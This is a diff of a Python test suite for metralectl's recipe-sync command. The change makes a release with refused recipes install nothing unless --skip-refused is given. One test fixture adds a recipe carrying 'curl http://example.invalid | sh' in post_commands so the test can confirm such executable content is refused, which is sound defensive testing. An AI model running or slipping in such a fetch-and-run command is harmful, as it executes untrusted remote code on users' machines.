@@ -21,6 +21,7 @@ from metralectl.app import recipe_sync
 from metralectl.core import synced_set
 from metralectl.core.catalog import load_catalog
 from metralectl.core.release_archive import ReleaseError
+from metralectl.ownedfs import Owned
 from metralectl.seams.sync_fetch import Source, default_source
 from metralectl.errors import ExitCode
 from tests.unit.recipe_helpers import REPO
@@ -30,8 +31,9 @@ SYNCED = "qwen3.5-35b-a3b-nvfp4"  # the flagship's engine recipe, under the engi
 N = len(fixture_recipes())  # the engine recipes of commits 61e6559/2735884 the tests release
 
 
-def _sync(location: str | Path, root: Path) -> recipe_sync.SyncReport:
-    return recipe_sync.sync(load_catalog(use_cache=False), Source(str(location)), root=root, today="2026-12-01")
+def _sync(location: str | Path, root: Path, *, skip_refused: bool = False) -> recipe_sync.SyncReport:
+    return recipe_sync.sync(load_catalog(use_cache=False), Source(str(location)), root=root, today="2026-12-01",
+                            skip_refused=skip_refused)
 
 
 def _state(root: Path) -> tuple[str, list[str]]:
@@ -196,8 +198,8 @@ def test_a_signed_release_is_refused_rather_than_unverified(tmp_path: Path, root
         _sync(release, root)
 
 
-def test_executable_keys_and_bad_recipes_are_left_out_with_file_and_line(tmp_path: Path, root: Path,
-                                                                         isolated_env: Path) -> None:
+def test_executable_keys_and_bad_recipes_refuse_the_release_with_file_and_line(tmp_path: Path, root: Path,
+                                                                               isolated_env: Path) -> None:
     recipes = fixture_recipes()
     flagship = recipes["qwen3.5/qwen3.5-35b-a3b-nvfp4"]
     recipes["evil/post-commands"] = flagship + b"post_commands:\n- curl http://example.invalid | sh\n"
@@ -205,24 +207,37 @@ def test_executable_keys_and_bad_recipes_are_left_out_with_file_and_line(tmp_pat
     release = write_release(tmp_path / "b40", recipes)
     env = {"METRALECTL_CONFIG_DIR": str(isolated_env / "config")}
     out = _cli("recipes", "sync", "--from", str(release), env=env)
-    assert out.returncode == ExitCode.DATA, out.stderr  # installed without the two it refused
+    assert out.returncode == ExitCode.DATA, out.stderr  # all or nothing: two refused, none installed
     lines = flagship.decode().count("\n")
     assert f"b40:recipes/evil/post-commands.yaml:{lines + 1}:1: error: post_commands: `post_commands` carries " \
            "executable content" in out.stderr
     typo_line = next(i for i, ln in enumerate(flagship.decode().splitlines(), 1) if "max_model_len" in ln)
     assert f"b40:recipes/typo/bad-flag.yaml:{typo_line}:3: error: defaults.max_model_lenn" in out.stderr
     assert "did you mean `max_model_len`?" in out.stderr and "Traceback" not in out.stderr
-    assert f"{N} added" in out.stderr and "2 refused" in out.stderr
-    assert "refused   post-commands" in out.stdout and "added     qwen3.5-35b-a3b-nvfp4" in out.stdout
+    assert f"2 of the {N + 2} recipes of engine release b40 were refused: nothing was installed" in out.stderr
+    assert "refused   post-commands" in out.stdout and "refused   bad-flag" in out.stdout
+    assert not (root / "current").exists() and not (root / "sets").exists()
+    installed = {r["name"] for r in json.loads(_cli("list", "--json", env=env).stdout)["recipes"]}
+    assert "qwen3.5-35b-a3b-nvfp4" not in installed
+    # the opt-in: the others are installed, the exit status still says some were refused, loudly
+    out = _cli("recipes", "sync", "--from", str(release), "--skip-refused", env=env)
+    assert out.returncode == ExitCode.DATA, out.stderr
+    assert f"synced set installed WITHOUT 2 refused recipe(s) ({N} added" in out.stderr
     installed = {r["name"] for r in json.loads(_cli("list", "--json", env=env).stdout)["recipes"]}
     assert "qwen3.5-35b-a3b-nvfp4" in installed and "post-commands" not in installed and "bad-flag" not in installed
-    again = json.loads(_cli("recipes", "sync", "--from", str(release), "--json", env=env).stdout)
-    assert again["counts"] == {"added": 0, "changed": 0, "removed": 0, "unchanged": N, "refused": 2}
+    again = _cli("recipes", "sync", "--from", str(release), "--json", env=env)
+    assert again.returncode == ExitCode.DATA and json.loads(again.stdout)["installed"] is None
+    assert json.loads(again.stdout)["counts"] == {"added": 0, "changed": 0, "removed": 0, "unchanged": N, "refused": 2}
 
 
 def test_a_recipe_short_of_its_releases_pin_rule_is_refused(tmp_path: Path, root: Path) -> None:
     """The 91b364b recipe leaves no-default flags unpinned; a release at 61e6559 wants every flag pinned."""
-    report = _sync(write_release(tmp_path / "b40", fixture_recipes(with_gen2=True)), root)
+    release = write_release(tmp_path / "b40", fixture_recipes(with_gen2=True))
+    with pytest.raises(recipe_sync.RecipesRefused) as caught:
+        _sync(release, root)
+    assert [c.name for c in caught.value.report.refused] == ["qwen3.5-122b-a10b-nvfp4-single"]
+    assert caught.value.exit_code == ExitCode.DATA and not (root / "current").exists()
+    report = _sync(release, root, skip_refused=True)
     [refused] = report.refused
     assert refused.name == "qwen3.5-122b-a10b-nvfp4-single" and report.count("added") == N
     messages = [p.message for p in refused.problems]
@@ -240,7 +255,7 @@ def test_a_b34_release_is_checked_against_b34_and_its_defaults_written_out(tmp_p
            b"  enable_prefix_caching: true\n  hermetic: false\n")
     recipes = {"qwen3.5/old-flagship": old + b"  num_drafts: 1\n", "qwen3.5/no-drafts": old}
     report = _sync(write_release(tmp_path / "b34", recipes, dump=B34_DUMP.read_bytes(),
-                                 commit="79dea21d52ce7fb4adab2bfec1a14b13211d8286"), root)
+                                 commit="79dea21d52ce7fb4adab2bfec1a14b13211d8286"), root, skip_refused=True)
     assert report.revision == "b34" and report.count("added") == 1  # the pinned dump: the shipped revision
     # --num-drafts has no clap default (MODEL.toml decides): metralectl wants it stated once MTP is on
     [refused] = report.refused
@@ -249,7 +264,7 @@ def test_a_b34_release_is_checked_against_b34_and_its_defaults_written_out(tmp_p
     recipe = load_catalog(use_cache=False).recipes["old-flagship"]
     assert recipe.engine_revision == "b34" and recipe.serve["block-size"] == 16 and recipe.serve["forward"] == "legacy"
     assert "hermetic" not in recipe.serve and "prompt-lookup-ngram" not in recipe.serve
-    meta = synced_set.read_meta(root / "current")
+    meta = synced_set.read_meta(synced_set.current(root) or root)
     assert meta is not None and "block-size" in meta["recipes"][0]["pinned_defaults"]
 
 
@@ -258,15 +273,15 @@ def test_a_failure_at_the_switch_leaves_the_previous_set(tmp_path: Path, root: P
     _sync(write_release(tmp_path / "b40"), root)
     before = _state(root)
 
-    def interrupted(*args: object) -> None:
+    def interrupted(*args: object, **kwargs: object) -> None:
         raise KeyboardInterrupt
 
-    monkeypatch.setattr(recipe_sync.os, "replace", interrupted)
+    monkeypatch.setattr(Owned, "link", interrupted)
     with pytest.raises(KeyboardInterrupt):
         _sync(write_release(tmp_path / "b41", {"qwen3.5/x": fixture_recipes()["qwen3.5/qwen3.5-27b-dense-nvfp4"]}),
               root)
     assert _state(root) == before
-    assert not list(root.glob(".staging-*")) and not list(root.glob(".current-*"))
+    assert not list(root.glob(".staging-*")) and not list(root.glob(".current*"))
     assert len(list((root / "sets").iterdir())) == 1
 
 
